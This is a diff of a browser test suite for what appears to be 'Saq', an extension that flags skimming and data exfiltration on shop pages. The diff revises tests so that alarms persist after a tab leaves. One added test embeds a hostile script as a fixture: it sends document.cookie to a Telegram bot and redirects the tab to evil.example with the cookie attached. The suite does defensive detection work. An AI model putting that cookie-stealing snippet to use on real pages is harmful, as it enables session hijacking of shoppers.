@@ -158,7 +158,7 @@ describeEachBrowser('lifecycle', (context) => {
     });
   }
 
-  it('a shop page still reporting as its tab leaves the shop: its last findings do not bring the record back', async () => {
+  it('a shop page still reporting as its tab leaves the shop: its last findings are not added to the alarm kept for the tab', async () => {
     const saq = await context.launch();
     const tag = 'last-words';
     // Pixels every 25 ms, and a burst as the page is hidden: findings are in flight when the tab leaves.
@@ -170,16 +170,24 @@ describeEachBrowser('lifecycle', (context) => {
     const visit = await open(saq, path);
     await eventually(async () => (await verdicts(saq, visit.tabId)).some(ofKind('exfiltration')), Boolean, 'the first pixels judged');
     await visit.page.goto(`https://${HOSTS.epay}/pay`, { waitUntil: 'load' });
+    // A critical alarm stays with the tab, marked left (the next test); the page is gone from it.
+    const left = await eventually(
+      () => saq.report(visit.tabId),
+      (report) => report.leftAt !== null,
+      'the alarm kept, marked left, when the tab left the shop',
+    );
+    // What the old page sent as it went arrives now or never; none of it may be added to what the tab keeps.
+    await sleep(1500);
+    const after = await saq.report(visit.tabId);
+    expect(after.findingCount, "the old page's last findings were added after the tab left the shop").toBe(left.findingCount);
+    expect(after.verdicts).toEqual(left.verdicts);
+    // Closing the tab drops what was kept, and with it the last reason to listen to tabs.
+    await visit.page.close();
     await eventually(
       () => saq.report(visit.tabId),
       (report) => report.pageUrl === null && report.findingCount === 0,
-      'the record cleared when the tab left the shop',
+      'the kept alarm dropped when the tab closed',
     );
-    // What the old page sent as it went arrives now or never; none of it may make a record for this tab.
-    await sleep(1500);
-    const after = await saq.report(visit.tabId);
-    expect(after.findingCount, "the old page's last findings made a record for a tab that left the shop").toBe(0);
-    expect(after.verdicts).toEqual([]);
     if (context.browserName === 'chromium') {
       await eventually(
         () => workerListensToTabs(saq),
@@ -187,6 +195,54 @@ describeEachBrowser('lifecycle', (context) => {
         'the worker to stop listening to tabs',
       );
     }
+  });
+
+  it('a helper that steals the session and takes the tab away to its own site: the alarm stays with the tab until it closes', async () => {
+    const saq = await context.launch();
+    const tag = 'steal-and-leave';
+    // The cookie to a Telegram bot, then the tab to the "helper's" site (after the test has found the tab).
+    const helper = `(() => {
+      fetch(${JSON.stringify(telegramUrl(tag))}, { method: 'POST', mode: 'no-cors', body: document.cookie }).catch(() => {});
+      setTimeout(() => { location.href = 'https://evil.example/thanks?c=' + encodeURIComponent(document.cookie); }, 1500);
+    })();`;
+    const path = await serveHostilePage(context.shop, `${PRODUCT}?life=${tag}`, PRODUCT, { end: fromCdn(tag) }, { [tag]: helper });
+    const visit = await open(saq, path);
+    await eventually(
+      async () => visit.page.url(),
+      (url) => url.startsWith('https://evil.example/thanks'),
+      'the helper to take the tab to its site',
+    );
+    const kept = await eventually(
+      () => saq.report(visit.tabId),
+      (report) => report.leftAt !== null,
+      'the alarm kept for the tab, marked left',
+    );
+    expect(kept.severity).toBe('critical');
+    expect(kept.verdicts.some(ofKind('exfiltration', mentions('api.telegram.org')))).toBe(true);
+    // The browser clears a navigating tab's badge; Saq puts the alarm back on it.
+    await visit.page.waitForFunction(() => document.readyState === 'complete');
+    expect(
+      await eventually(
+        () => saq.badgeText(visit.tabId),
+        (text) => text !== '',
+        'the badge shown again',
+      ),
+    ).not.toBe('');
+    const popup = await saq.openPopup(visit.tabId);
+    const headline = await popup.$eval('[data-testid="verdict"]', (node) => ({
+      severity: node.getAttribute('data-severity'),
+      left: node.querySelector('[data-testid="left-page"]')?.textContent ?? '',
+    }));
+    expect(headline.severity).toBe('critical');
+    expect(headline.left).not.toBe('');
+    expect(await popup.$('[data-testid="findings"]')).not.toBeNull();
+    await popup.close();
+    await visit.page.close();
+    await eventually(
+      () => saq.report(visit.tabId),
+      (report) => report.pageUrl === null && report.verdicts.length === 0,
+      'the kept alarm dropped when the tab closed',
+    );
   });
 
   it('a shop page the tab goes back to from the back-forward cache is watched again: the helper acting there is judged', async () => {
@@ -212,8 +268,8 @@ describeEachBrowser('lifecycle', (context) => {
     await visit.page.goto(`https://${HOSTS.epay}/pay`, { waitUntil: 'load' });
     await eventually(
       () => saq.report(visit.tabId),
-      (report) => report.pageUrl === null,
-      'the record cleared when the tab left the shop',
+      (report) => report.leftAt !== null,
+      'the alarm kept, marked left, when the tab left the shop',
     );
     // A page restored from the cache fires no load event, and Firefox's driver waits for one in vain: the
     // page's own word says when it is back.
@@ -225,8 +281,8 @@ describeEachBrowser('lifecycle', (context) => {
     );
     const back = await eventually(
       () => saq.report(visit.tabId),
-      (report) => report.pageUrl !== null && report.verdicts.some(ofKind('exfiltration', mentions('/p1?'))),
-      'the restored page recorded again and its pixel judged',
+      (report) => report.leftAt === null && report.verdicts.some(ofKind('exfiltration', mentions('/p1?'))),
+      'the restored page shown again and its pixel judged',
     );
     expect(back.pageUrl).toContain(`life=${tag}`);
   });
